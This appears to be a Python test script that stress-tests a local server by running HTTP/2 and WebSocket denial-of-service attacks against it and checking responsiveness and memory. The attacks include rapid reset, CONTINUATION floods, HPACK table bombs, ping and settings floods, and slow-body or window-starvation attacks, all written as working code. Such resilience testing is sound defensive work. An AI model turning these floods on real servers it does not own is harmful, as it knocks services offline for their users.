#!/usr/bin/env python3
"""Attacks a server frame by frame, and looks that others are answered meanwhile and that memory stays.

    python3 scripts/check_frames.py --rapporteur target/release/rapporteur [ATTACK...]
"""

import argparse
import json
import re
import select
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path

import check_proxies
import graphql_websocket
from check_proxies import CheckError, expect

# HTTP/2.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GO_AWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
INITIAL_WINDOW = 4
FLOOD = 20_000
# ACCESS.md: connections that do not get on are closed after 30 s, bodies that do not arrive after 10.
IDLE_SECONDS, BODY_SECONDS, SPARE_SECONDS = 30, 10, 12
MEMORY_MAX_MB = 24
# Connections that are kept until memory has been looked at.
HELD = []
# For others, all the time.
PROBE_SECONDS_MAX = 1.0


def frame(kind, flags=0, stream=0, payload=b""):
    """A frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value, indexing=b"\x00"):
    """A field of a head, written out; by 0x40 the other side keeps it in its table."""
    def text(part):
        if len(part) < 127:
            return bytes([len(part)]) + part
        rest, more = len(part) - 127, b""
        while rest >= 128:
            more, rest = more + bytes([rest % 128 | 128]), rest // 128
        return b"\x7f" + more + bytes([rest]) + part

    return indexing + text(name) + text(value)


def head(method=b"GET", path=b"/livez", fields=b""):
    """The head of a request."""
    return b"".join((
        literal(b":method", method), literal(b":scheme", b"http"), literal(b":path", path),
        literal(b":authority", b"127.0.0.1"), fields,
    ))


class Connection:
    """A connection over HTTP/2 that has said hello."""

    def __init__(self, port, settings=b""):
        self.socket = socket.create_connection(("127.0.0.1", port), 5)
        self.buffer = b""
        self.is_open = True
        self.send(PREFACE + frame(SETTINGS, payload=settings))

    def send(self, data):
        """Sends, unless the server has closed or takes nothing for a while."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.is_open = False

    def get(self, stream, path=b"/livez", flags=END_STREAM | END_HEADERS):
        """The frame of a request."""
        return frame(HEADERS, flags, stream, head(path=path))

    def frames(self, seconds):
        """Frames that come within some seconds."""
        until = time.monotonic() + seconds
        while self.is_open and (left := until - time.monotonic()) > 0:
            if not select.select([self.socket], [], [], left)[0]:
                return
            try:
                received = self.socket.recv(65536)
            except OSError:
                received = b""
            self.is_open = bool(received)
            self.buffer += received
            while len(self.buffer) >= 9 and len(self.buffer) >= 9 + (length := int.from_bytes(self.buffer[:3], "big")):
                kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
                payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
                yield kind, flags, stream, payload

    def await_end(self, seconds, answer_pings=True, each_second=b""):
        """Seconds until the server closes or says goodbye, or None."""
        began = time.monotonic()
        while time.monotonic() < began + seconds:
            self.send(each_second)
            for kind, flags, _, payload in self.frames(1):
                if kind == GO_AWAY:
                    return time.monotonic() - began
                if kind == PING and not flags & ACK and answer_pings:
                    self.send(frame(PING, ACK, payload=payload))
            if not self.is_open:
                return time.monotonic() - began
        return None

    def close(self):
        """Closes."""
        self.socket.close()


def flood(port, make, count=FLOOD, chunk=200, settings=b""):
    """Sends many frames without reading any; returns how many the server took."""
    connection = Connection(port, settings)
    connection.socket.settimeout(3)
    sent = 0
    while sent < count and connection.is_open:
        connection.send(b"".join(make(sent + place) for place in range(chunk)))
        sent += chunk
    ended = connection.await_end(3) is not None
    connection.close()
    return f"{sent} sent, {'closed by the server' if ended else 'still open'}"


def rapid_reset(port):
    """Requests that are taken back at once (CVE-2023-44487)."""
    request = head(path=b"/v1/ask?q=gangs")
    def make(at):
        stream = 2 * at + 1
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, request) + frame(RESET, stream=stream, payload=b"\0\0\0\x08")
    return flood(port, make)


def made_to_reset(port):
    """Requests with a fault behind them, so that the server takes them back (CVE-2025-8671)."""
    request = head(path=b"/v1/ask?q=gangs")
    def make(at):
        stream = 2 * at + 1
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, request) + frame(WINDOW, stream=stream, payload=b"\0" * 4)
    return flood(port, make)


def continuation(port):
    """A head that never ends (CVE-2024-27316)."""
    def make(at):
        fields = literal(b"x-%d" % at, b"a" * 8_000)
        return frame(HEADERS if at == 0 else CONTINUATION, 0, 1, head() + fields if at == 0 else fields)
    said = flood(port, make, chunk=10, count=5_000)
    expect("closed" in said, f"a head without end: {said}")
    return said


def table_bomb(port):
    """A head that names one long field of the table again and again."""
    fields = literal(b"x", b"a" * 3_900, b"\x40") + b"\xbe" * 12_000
    connection = Connection(port)
    connection.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, head(fields=fields)))
    answered = [payload for kind, _, _, payload in connection.frames(3) if kind == HEADERS]
    resets = not connection.is_open
    connection.close()
    # 431 and 400 are written out or by index, 200 is by the index 8.
    expect(not answered or b"\x88" not in answered[0][:1], "a head of 47 MB is taken")
    return f"{len(answered)} responses, {'closed' if resets else 'open'}"


def settings_flood(port):
    """SETTINGS, each to be acknowledged, none of which are read."""
    return flood(port, lambda _: frame(SETTINGS, payload=b"\0\x03\0\0\0\x64"))


def ping_flood(port):
    """PINGs, whose answers are not read."""
    return flood(port, lambda at: frame(PING, payload=at.to_bytes(8, "big")), count=400_000, chunk=2_000)


def empty_data(port):
    """A body of frames without bytes."""
    start = frame(HEADERS, END_HEADERS, 1, head(b"POST", b"/v1/verify-text", literal(b"content-type", b"application/json")))
    return flood(port, lambda at: (start if at == 0 else b"") + frame(DATA, stream=1), count=200_000, chunk=2_000)


def priorities(port):
    """Streams that are only ranked."""
    return flood(port, lambda at: frame(PRIORITY, stream=2 * at + 1, payload=b"\0\0\0\0\x10"), count=200_000, chunk=2_000)


def many_streams(port):
    """More requests at a time than may be."""
    connection = Connection(port, INITIAL_WINDOW.to_bytes(2, "big") + b"\0\0\0\0")
    connection.send(b"".join(connection.get(2 * at + 1, b"/d/rome-2012") for at in range(2_000)))
    refused = sum(1 for kind, _, _, _ in connection.frames(3) if kind == RESET)
    connection.close()
    expect(refused > 1_000, f"only {refused} of 2000 requests are refused")
    return f"{refused} of 2000 requests refused"


def ends(connection, seconds, **options):
    """When the server gives a connection up; fails where it does not in time."""
    took = connection.await_end(seconds + SPARE_SECONDS, **options)
    connection.close()
    expect(took is not None, f"still open after {seconds + SPARE_SECONDS} s")
    return f"closed after {took:.0f} s"


def unread_window(port):
    """A response for which there is no window, on a connection that answers pings."""
    connection = Connection(port, INITIAL_WINDOW.to_bytes(2, "big") + b"\0\0\0\0")
    connection.send(connection.get(1, b"/d/rome-2012"))
    return ends(connection, IDLE_SECONDS + 15)


def trickled_window(port):
    """A response that is read byte by byte."""
    connection = Connection(port, INITIAL_WINDOW.to_bytes(2, "big") + b"\0\0\0\0")
    connection.send(connection.get(1, b"/d/rome-2012"))
    one = frame(WINDOW, stream=1, payload=b"\0\0\0\x01")
    took = connection.await_end(IDLE_SECONDS + SPARE_SECONDS + 15, each_second=one)
    connection.close()
    return "still open" if took is None else f"closed after {took:.0f} s"


def pings_alone(port):
    """A connection that asks nothing, and answers pings."""
    return ends(Connection(port), IDLE_SECONDS + 15, each_second=frame(PING, payload=b"12345678"))


def head_without_end(port):
    """A head that is begun and not gone on with."""
    connection = Connection(port)
    connection.send(frame(HEADERS, 0, 1, head()))
    # Another frame in between would be an error of its own.
    return ends(connection, IDLE_SECONDS + 15, answer_pings=False)


def slow_body(port):
    """A body that comes byte by byte."""
    connection = Connection(port)
    fields = literal(b"content-type", b"application/json") + literal(b"content-length", b"60000")
    connection.send(frame(HEADERS, END_HEADERS, 1, head(b"POST", b"/v1/verify-text", fields)))
    began = time.monotonic()
    while time.monotonic() < began + BODY_SECONDS + SPARE_SECONDS:
        connection.send(frame(DATA, stream=1, payload=b" "))
        answered = any(kind in (HEADERS, RESET) and stream == 1 for kind, _, stream, _ in connection.frames(1))
        if answered or not connection.is_open:
            connection.close()
            return f"given up after {time.monotonic() - began:.0f} s"
    raise CheckError(f"still read after {BODY_SECONDS + SPARE_SECONDS} s")


def flood_websocket(port, data, count, first=None):
    """Sends the same over a WebSocket again and again, and reads nothing; returns how much the server took."""
    connection = socket.create_connection(("127.0.0.1", port), 3)
    opened = graphql_websocket.WebSocket(connection, "127.0.0.1")
    sent = 0
    try:
        if first is not None:
            opened.send(first)
        while sent < count * len(data):
            connection.sendall(data)
            sent += len(data)
        return f"{sent / 1e6:.0f} MB sent, still read"
    except OSError:
        return f"{sent / 1e6:.0f} MB sent, not read any more"
    finally:
        # Before the server gives the connection up: what it holds for it is seen at once.
        HELD.append(opened)


def websocket_pings(port):
    """PINGs over a WebSocket, whose answers are not read. Nobody has shown a key yet."""
    return flood_websocket(port, graphql_websocket.frame(b"1" * 125, graphql_websocket.PING) * 1_000, 500)


def websocket_messages(port):
    """Messages over a WebSocket that are answered, and whose answers are not read."""
    init, ping = ({"type": kind} for kind in ("connection_init", "ping"))
    return flood_websocket(port, graphql_websocket.frame(json.dumps(ping).encode()) * 1_000, 500, init)


ATTACKS = (
    websocket_pings, websocket_messages,
    rapid_reset, made_to_reset, continuation, table_bomb, settings_flood, ping_flood, empty_data, priorities, many_streams,
    slow_body, unread_window, trickled_window, pings_alone, head_without_end,
)


def resident_mb(process):
    """The memory of the server."""
    return int(re.search(r"VmRSS:\s+(\d+)", Path(f"/proc/{process.pid}/status").read_text(encoding="ascii"))[1]) / 1000


class Others:
    """Somebody else, who asks all the time."""

    def __init__(self, port):
        self.port, self.slowest, self.failed, self.stop = port, 0.0, 0, threading.Event()
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        """Asks until told to stop."""
        while True:
            began = time.monotonic()
            try:
                self.failed += check_proxies.get(self.port, "/v1/ask?q=gangs")[0] != 200
            except OSError:
                self.failed += 1
            self.slowest = max(self.slowest, time.monotonic() - began)
            if self.stop.wait(0.05):
                return

    def end(self):
        """How it went."""
        self.stop.set()
        self.thread.join()
        return self.slowest, self.failed


def check(process, port, attack):
    """One attack; what is wrong."""
    before, others = resident_mb(process), Others(port)
    wrong = []
    try:
        said = attack(port)
    except CheckError as error:
        said = f"FAILS: {error}"
        wrong.append(f"{attack.__name__}: {error}")
    slowest, failed = others.end()
    time.sleep(0.5)
    grown = resident_mb(process) - before
    while HELD:
        HELD.pop().close()
    print(f"{attack.__name__:18} {said}; others at most {slowest * 1000:.0f} ms; memory {grown:+.1f} MB", flush=True)
    if failed or slowest > PROBE_SECONDS_MAX:
        wrong.append(f"{attack.__name__}: others wait for {slowest:.1f} s, {failed} fail")
    if grown > MEMORY_MAX_MB:
        wrong.append(f"{attack.__name__}: memory grows by {grown:.0f} MB")
    if process.poll() is not None:
        raise CheckError(f"{attack.__name__} ends the server")
    return wrong


def main(arguments=None):
    """The command; returns its exit code."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--rapporteur", type=Path, required=True, help="the program")
    names = [attack.__name__ for attack in ATTACKS]
    parser.add_argument("attacks", nargs="*", default=names, help=f"of {', '.join(names)}")
    options = parser.parse_args(arguments)
    wrong = []
    with tempfile.TemporaryDirectory() as name:
        try:
            with check_proxies.served(options.rapporteur, Path(name)) as (port, process):
                for attack in ATTACKS:
                    if attack.__name__ in options.attacks:
                        wrong += check(process, port, attack)
        except CheckError as error:
            wrong.append(f"{error}: {(Path(name) / 'server.log').read_text(errors='replace')[-2000:]}")
    for one in wrong:
        print(one, file=sys.stderr)
    print(f"frames: {len(options.attacks)} attacks, {len(wrong)} problems")
    return 1 if wrong else 0


if __name__ == "__main__":
    sys.exit(main())
